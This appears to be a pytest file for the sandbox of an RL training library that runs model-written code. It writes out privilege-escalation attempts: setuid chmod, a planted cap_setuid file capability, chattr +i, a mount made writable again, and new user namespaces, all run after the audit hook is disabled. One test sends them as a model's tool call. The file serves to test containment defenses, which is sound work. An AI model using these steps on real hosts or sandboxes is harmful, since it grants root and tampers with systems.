@@ -1,0 +1,365 @@
+"""Host file metadata and privileges: no sandboxed program changes a host file's mode, owner, times, extended
+attributes (file capabilities among them) or inode flags, nor makes new namespaces (issue 60).
+
+The review's program switched the audit hook off and, in every mode, `chmod 4777`'d files under the
+interpreter's prefix, `/etc`, sysfs and cgroupfs; without namespaces it also `chown`'d and `chattr +i`'d host
+paths; and it gave a host copy of Python the `cap_setuid` file capability, which the host's `nobody` then ran
+to become root. Three layers hold these now, each tested here on its own:
+
+- the unprivileged uid (`Isolation.unprivileged_uid`): the program owns no host file and has no capability
+  but, at most, `CAP_DAC_READ_SEARCH`; `no_new_privs` is always set;
+- read-only, `nosuid` bind mounts (`Isolation.read_only_roots`, with namespaces): EROFS for any change;
+- seccomp (`Isolation.seccomp`): the metadata calls, the flag ioctls and calls newer than libseccomp refused.
+
+The victims are files this test makes inside readable roots (the interpreter's prefix, a cgroup directory)
+and `/dev/null`, never a file of the machine's own.
+"""
+
+import dataclasses
+import fcntl
+import os
+import shutil
+import stat
+import struct
+import sys
+import uuid
+
+import pytest
+
+from mathrl_jax.envs import MathEnv, PythonToolEnv
+from mathrl_jax.envs.sandbox import SandboxLimits, cleanup, detect_isolation, pids_cgroup_parent, privileges
+from mathrl_jax.data.sources import Problem
+from tests.envs.sandbox_modes import AVAILABLE, CONTAINED_MODES, NO_NAMESPACES, run_python
+from tests.envs.test_sandbox_escapes import HOOK_OFF
+
+LIMITS = SandboxLimits(wall_time_s=15.0, cpu_time_s=10, max_output_bytes=1 << 16)
+_FS_IOC_GETFLAGS = 0x80086601
+
+ATTACKS = r"""
+import errno, fcntl, os, struct
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+AT_FDCWD = ctypes.c_long(-100)
+# VFS_CAP_REVISION_2 | effective, permitted = CAP_SETUID: what `setcap cap_setuid+ep` writes.
+CAPABILITY = bytes.fromhex("0100000280000000000000000000000000000000")
+F, W, D, C, MOUNT = {file!r}, {writable!r}, {directory!r}, {cgroup_file!r}, {mount_point!r}
+
+def raw(number, *args):
+    if libc.syscall(number, *args) != 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+
+class XattrArgs(ctypes.Structure):
+    _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]
+
+class FileAttr(ctypes.Structure):
+    _fields_ = [("xflags", ctypes.c_uint64), ("rest", ctypes.c_uint32 * 4)]
+
+value = ctypes.create_string_buffer(CAPABILITY, len(CAPABILITY))
+xattr_args = XattrArgs(ctypes.addressof(value), len(CAPABILITY), 0)
+immutable = FileAttr(0x8)  # FS_XFLAG_IMMUTABLE
+
+def with_fd(action):
+    fd = os.open(F, os.O_RDONLY)
+    try:
+        action(fd)
+    finally:
+        os.close(fd)
+
+def remount_then_chmod():
+    # MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV | MS_RELATIME: read-write again, keeping the locked flags
+    if libc.mount(None, MOUNT.encode(), None, 32 | 4096 | 2 | 4 | (1 << 21), None) != 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    os.chmod(F, 0o4777)
+
+def new_user_namespace_by_clone():
+    pid = libc.syscall(56, ctypes.c_ulong(0x10000000 | 17), 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD)
+    if pid == 0:
+        os._exit(0)
+    if pid < 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    os.waitpid(pid, 0)
+
+def new_user_namespace():
+    if libc.unshare(0x10000000) != 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+
+attempts = dict(
+    chmod_setuid=lambda: os.chmod(F, 0o4777),
+    chmod_directory=lambda: os.chmod(D, 0o777),
+    fchmod=lambda: with_fd(lambda fd: os.fchmod(fd, 0o4777)),
+    fchmodat2=lambda: raw(452, AT_FDCWD, F.encode(), 0o4777, 0),
+    chown=lambda: os.chown(F, 1, 1),
+    lchown_directory=lambda: os.lchown(D, 1, 1),
+    utime=lambda: os.utime(F, (0, 0)),
+    setxattr_user=lambda: os.setxattr(F, "user.mathrl", b"x"),
+    removexattr=lambda: os.removexattr(F, "user.keep"),
+    file_capability=lambda: os.setxattr(F, "security.capability", CAPABILITY),
+    setxattrat=lambda: raw(463, AT_FDCWD, F.encode(), 0, b"security.capability", ctypes.byref(xattr_args), 16),
+    chattr_immutable=lambda: with_fd(lambda fd: fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10))),
+    chattr_high_bits=lambda: with_fd(
+        lambda fd: raw(16, fd, ctypes.c_ulong(0xFFFFFFFF00000000 | 0x40086602), ctypes.byref(ctypes.c_int(0x10)))
+    ),
+    file_setattr=lambda: raw(469, AT_FDCWD, F.encode(), ctypes.byref(immutable), 24, 0),
+    remount_then_chmod=remount_then_chmod,
+    world_writable_times=lambda: os.utime(W, None),
+    user_namespace=new_user_namespace,
+    user_namespace_by_clone=new_user_namespace_by_clone,
+)
+if C:
+    attempts["cgroup_chmod"] = lambda: os.chmod(C, 0o777)
+if {touch_dev_null}:
+    attempts["dev_null_times"] = lambda: os.utime("/dev/null", None)
+print("uid", os.getuid(), flush=True)
+for what, action in attempts.items():
+    attempt(what, action)
+"""
+"""Each attempt prints `<what> GAINED` or `<what> refused <error>`; `F` is a root-owned 0644 file, `W` a
+world-writable one, `D` their directory, `C` a file of a cgroup directory, `MOUNT` the readable root they lie in."""
+
+METADATA = {
+    "chmod_setuid", "chmod_directory", "fchmod", "fchmodat2", "chown", "lchown_directory", "utime",
+    "setxattr_user", "removexattr", "file_capability", "setxattrat", "chattr_immutable", "chattr_high_bits",
+    "file_setattr", "remount_then_chmod", "world_writable_times", "cgroup_chmod", "dev_null_times",
+}  # fmt: skip
+NAMESPACES = {"user_namespace", "user_namespace_by_clone"}
+
+
+def _inode_flags(path):
+    fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW)
+    try:
+        return struct.unpack("i", fcntl.ioctl(fd, _FS_IOC_GETFLAGS, struct.pack("i", 0)))[0]
+    except OSError:
+        return None
+    finally:
+        os.close(fd)
+
+
+def _snapshot(path, xattrs=True):
+    """Everything a metadata attack could change: mode, owner, times (ctime moves with any change), extended
+    attributes and inode flags."""
+    st = os.lstat(path)
+    record = (st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns, st.st_ctime_ns)
+    if xattrs:
+        attributes = {name: os.getxattr(path, name) for name in os.listxattr(path)}
+        record += (sorted(attributes.items()), _inode_flags(path))
+    return record
+
+
+@pytest.fixture
+def victims():
+    """A directory under the interpreter's prefix (a readable root, bind-mounted into namespaced runs) with a
+    root-owned 0644 file holding a user xattr and a world-writable file; a file of a fresh cgroup directory
+    where a pids cgroup parent exists. Yields (placeholders, paths to snapshot)."""
+    if os.geteuid() != 0:
+        pytest.skip("the victims are root's files, as the host's are")
+    directory = os.path.join(sys.prefix, f"mathrl_metadata_victim_{uuid.uuid4().hex[:12]}")
+    os.mkdir(directory, 0o755)
+    file, writable = os.path.join(directory, "victim"), os.path.join(directory, "world_writable")
+    for path, mode in ((file, 0o644), (writable, 0o666)):
+        with open(path, "w") as f:
+            f.write("host data\n")
+        os.chmod(path, mode)
+    os.setxattr(file, "user.keep", b"kept")
+    parent = pids_cgroup_parent()
+    cgroup_dir = os.path.join(parent, f"mathrl_victim_{uuid.uuid4().hex[:12]}") if parent else None
+    if cgroup_dir:
+        os.mkdir(cgroup_dir)
+    cgroup_file = os.path.join(cgroup_dir, "cgroup.procs") if cgroup_dir else ""
+    placeholders = dict(
+        file=file, writable=writable, directory=directory, cgroup_file=cgroup_file, mount_point=sys.prefix
+    )
+    watched = [file, writable, directory] + ([cgroup_file, cgroup_dir] if cgroup_dir else [])
+    yield placeholders, watched
+    for path in (file, writable, directory):
+        cleanup.clear_inode_flags(path)
+    shutil.rmtree(directory, ignore_errors=True)
+    if cgroup_dir:
+        os.rmdir(cgroup_dir)
+
+
+def _attack(isolation, victims, touch_dev_null=True):
+    placeholders, watched = victims
+    before = {path: _snapshot(path, xattrs=not path.startswith("/sys")) for path in watched}
+    dev_null = _snapshot("/dev/null", xattrs=False)
+    code = HOOK_OFF + ATTACKS.format(touch_dev_null=touch_dev_null, **placeholders)
+    result = run_python(code, LIMITS, isolation=isolation)
+    assert "hook-off" in result.stdout, (result.status, result.stdout, result.stderr[-800:])
+    gained = {line.split()[0] for line in result.stdout.splitlines() if line.endswith("GAINED")}
+    changed = {path for path in watched if _snapshot(path, xattrs=not path.startswith("/sys")) != before[path]}
+    if _snapshot("/dev/null", xattrs=False) != dev_null:
+        changed.add("/dev/null")
+    return result, gained, changed
+
+
+def _without(isolation, *layers):
+    return dataclasses.replace(isolation, **{layer: 0 if layer == "landlock_abi" else False for layer in layers})
+
+
+@pytest.mark.parametrize("isolation", CONTAINED_MODES)
+def test_no_host_file_metadata_changes_and_no_namespace_is_made(isolation, victims):
+    """Every mode that runs model code by default: each metadata attack refused, every victim unchanged
+    (mode, owner, times, attributes, flags), no new user namespace. Before issue 60's fix the program gained
+    `chmod_setuid`, `file_capability` and the others here (`test_the_metadata_attacks_are_real` shows it)."""
+    result, gained, changed = _attack(isolation, victims)
+    assert gained == set() and changed == set(), (gained, changed, result.stdout)
+    for what in METADATA - {"cgroup_chmod"}:
+        assert f"{what} refused" in result.stdout, (what, result.stdout)
+    for what in NAMESPACES:
+        assert f"{what} refused" in result.stdout, (what, result.stdout)
+    assert f"uid {privileges.SANDBOX_ID}" in result.stdout or not isolation.unprivileged_uid
+
+
+_NS = (
+    None if AVAILABLE.namespaces and AVAILABLE.seccomp and AVAILABLE.unprivileged_uid
+    else f"needs namespaces, seccomp and a uid to drop to, have {AVAILABLE.name}"
+)  # fmt: skip
+_NO_NS = (
+    None if AVAILABLE.seccomp and AVAILABLE.landlock_abi and NO_NAMESPACES.unprivileged_uid
+    else f"needs Landlock, seccomp and a uid to drop to, have {NO_NAMESPACES.name}"
+)  # fmt: skip
+
+
+def _case(id, needs, removed, base, gaps=frozenset()):
+    return pytest.param(base, removed, gaps, id=id, marks=pytest.mark.skipif(needs is not None, reason=needs or ""))
+
+
+LAYER_CASES = [
+    # One layer removed: the other two hold every attack.
+    _case("namespaces-without-seccomp", _NS, ("seccomp",), AVAILABLE),
+    _case("namespaces-without-uid", _NS, ("unprivileged_uid",), AVAILABLE),
+    _case("namespaces-without-read-only-roots", _NS, ("read_only_roots",), AVAILABLE),
+    _case("no-namespaces-without-uid", _NO_NS, ("unprivileged_uid",), NO_NAMESPACES),
+    # Without namespaces there are two layers: the uid alone cannot keep the times of a world-writable file
+    # (utime to "now" needs only write access): seccomp is needed with it for those.
+    _case("no-namespaces-without-seccomp", _NO_NS, ("seccomp",), NO_NAMESPACES, {"world_writable_times"}),
+    # Each layer alone, to say which pairs are needed: seccomp holds alone; the uid alone loses the times of
+    # world-writable files; read-only mounts hold alone while Landlock refuses the program any mount change,
+    # and lose to a root (of the user namespace) that remounts them read-write where Landlock is off too.
+    _case("namespaces-seccomp-alone", _NS, ("unprivileged_uid", "read_only_roots"), AVAILABLE),
+    _case("namespaces-uid-alone", _NS, ("seccomp", "read_only_roots"), AVAILABLE, {"world_writable_times"}),
+    _case("namespaces-read-only-roots-alone", _NS, ("seccomp", "unprivileged_uid"), AVAILABLE),
+    _case(
+        "namespaces-read-only-roots-alone-without-landlock",
+        _NS,
+        ("seccomp", "unprivileged_uid", "landlock_abi"),
+        AVAILABLE,
+        {"remount_then_chmod", "world_writable_times"},  # the latter through the mount made read-write
+    ),
+]
+
+
+@pytest.mark.parametrize("base, removed, gaps", LAYER_CASES)
+def test_with_a_layer_removed_the_others_hold(base, removed, gaps, victims):
+    """The layers one by one: with any one removed the others refuse every metadata attack; alone, each holds
+    all but the gaps named (which a second layer closes). A gap's change is allowed to the world-writable
+    victim alone; `/dev/null` is left out where a gap would reach it."""
+    isolation = _without(base, *removed)
+    placeholders, _ = victims
+    result, gained, changed = _attack(isolation, victims, touch_dev_null=not gaps)
+    assert gained & METADATA == set(gaps), (isolation.name, gained, result.stdout)
+    allowed = {placeholders["writable"]} if "world_writable_times" in gaps else set()
+    if "remount_then_chmod" in gaps:
+        allowed.add(placeholders["file"])
+    assert changed <= allowed, (isolation.name, changed, result.stdout)
+
+
+@pytest.mark.skipif(_NS is not None, reason=_NS or "")
+def test_the_metadata_attacks_are_real(victims):
+    """With all three layers off (a namespaced run as it was before issue 60: root in a user namespace mapped
+    to the host's root, writable bind mounts, no metadata filter) the same program gives the victim the set-user-ID
+    bit and a `cap_setuid` file capability: the tests above attack for real."""
+    placeholders, _ = victims
+    isolation = _without(AVAILABLE, "seccomp", "unprivileged_uid", "read_only_roots")
+    result, gained, changed = _attack(isolation, victims, touch_dev_null=False)
+    assert {"chmod_setuid", "file_capability", "utime", "removexattr"} <= gained, result.stdout
+    assert placeholders["file"] in changed
+    assert "security.capability" in os.listxattr(placeholders["file"])  # on the host's file, for any user to run
+
+
+@pytest.mark.skipif(_NS is not None, reason=_NS or "")
+def test_a_set_user_id_program_gains_nothing(victims):
+    """A set-user-ID root program in a readable root (the review's end point: a binary that makes its caller
+    root) runs as the program's own uid: `nosuid` mounts and `no_new_privs` each ignore the bit. Checked
+    with the read-only roots (and `nosuid`) on and off: `no_new_privs` holds alone."""
+    placeholders, _ = victims
+    target = os.path.join(placeholders["directory"], "id_setuid")
+    shutil.copy(shutil.which("id"), target)
+    os.chmod(target, 0o4755)
+    code = f"import subprocess\nprint(subprocess.run([{target!r}, '-u'], capture_output=True, text=True).stdout)"
+    for isolation in (AVAILABLE, _without(AVAILABLE, "read_only_roots")):
+        result = run_python(code, LIMITS, isolation=isolation)
+        assert result.ok and result.stdout.split() == [str(privileges.SANDBOX_ID)], (isolation.name, result)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root holds CAP_LINUX_IMMUTABLE")
+def test_an_immutable_file_in_the_working_directory_leaves_nothing_behind():
+    """Without the uid and seccomp layers (the audit hook alone, opted in), root's program marks a file of its
+    working directory immutable (`chattr +i`). The run's directory on the host is still removed: before,
+    `rmtree(ignore_errors=True)` left it, data and all, and the run said "ok"."""
+    isolation = dataclasses.replace(
+        NO_NAMESPACES, landlock_abi=0, seccomp=False, unprivileged_uid=False, pids_cgroup=False, memory_cgroup=False
+    )
+    code = HOOK_OFF + (
+        "import os, fcntl, struct\nopen('kept', 'w').write('data')\nfd = os.open('kept', os.O_RDONLY)\n"
+        "fcntl.ioctl(fd, 0x40086602, struct.pack('i', 0x10))\nprint(os.getcwd())"
+    )
+    result = run_python(code, LIMITS, isolation=isolation)
+    workdir = result.stdout.splitlines()[-1]
+    assert workdir.endswith("/work") and result.status == "ok", result
+    assert not os.path.exists(os.path.dirname(workdir))
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root holds CAP_LINUX_IMMUTABLE")
+def test_a_cleanup_that_fails_is_reported_not_ok(monkeypatch):
+    """If the run's directory cannot be removed (the flag clearing disabled here), the result says so: status
+    "sandbox_error", the directory named; never "ok" over data left on the host."""
+    monkeypatch.setattr(cleanup, "clear_inode_flags", lambda path: None)
+    isolation = dataclasses.replace(
+        NO_NAMESPACES, landlock_abi=0, seccomp=False, unprivileged_uid=False, pids_cgroup=False, memory_cgroup=False
+    )
+    code = HOOK_OFF + (
+        "import os, fcntl, struct\nopen('kept', 'w').write('data')\nfd = os.open('kept', os.O_RDONLY)\n"
+        "fcntl.ioctl(fd, 0x40086602, struct.pack('i', 0x10))\nprint(os.getcwd())"
+    )
+    result = run_python(code, LIMITS, isolation=isolation)
+    base = os.path.dirname(result.stdout.splitlines()[-1])
+    try:
+        assert result.status == "sandbox_error" and f"{base} could not be removed" in result.stderr, result
+    finally:
+        monkeypatch.undo()
+        assert cleanup.remove_tree(base) == ""
+
+
+def test_the_seccomp_filter_refuses_every_call_libseccomp_cannot_name():
+    """A deny-list by name lets through what the library does not know: numbers it cannot name are refused.
+    Those include the metadata calls newer than it (`setxattrat` 463, `file_setattr` 469 on x86_64) where it
+    is older than Linux 6.13."""
+    from mathrl_jax.envs.sandbox import seccomp
+
+    if not detect_isolation().seccomp:
+        pytest.skip("no libseccomp here")
+    unknown = seccomp.unknown_syscalls()
+    lib = seccomp.load_library()
+    named = [n for n in range(seccomp.HIGHEST_SYSCALL + 1) if n not in unknown]
+    assert named and max(named) < seccomp.HIGHEST_SYSCALL - 256  # a margin for kernels newer than the library
+    for number in unknown[:50]:
+        assert not lib.seccomp_syscall_resolve_num_arch(0, number)
+
+
+@pytest.mark.skipif(_NS is not None, reason=_NS or "")
+def test_the_python_tool_holds_the_metadata_attacks(victims):
+    """The path a training run takes: the attack as a model's tool call (`PythonToolEnv`, default isolation)."""
+    placeholders, watched = victims
+    before = {path: _snapshot(path, xattrs=not path.startswith("/sys")) for path in watched}
+    env = PythonToolEnv(MathEnv([Problem(uid="p", question="1+1?", answer="2")]), limits=LIMITS)
+    env.reset(seed=0)
+    code = HOOK_OFF + ATTACKS.format(touch_dev_null=True, **placeholders)
+    observation, *_ = env.step(f"<python>\n{code}\n</python>")
+    assert "hook-off" in observation and "GAINED" not in observation, observation
+    assert "chmod_setuid refused" in observation and "file_capability refused" in observation
+    assert {path: _snapshot(path, xattrs=not path.startswith("/sys")) for path in watched} == before
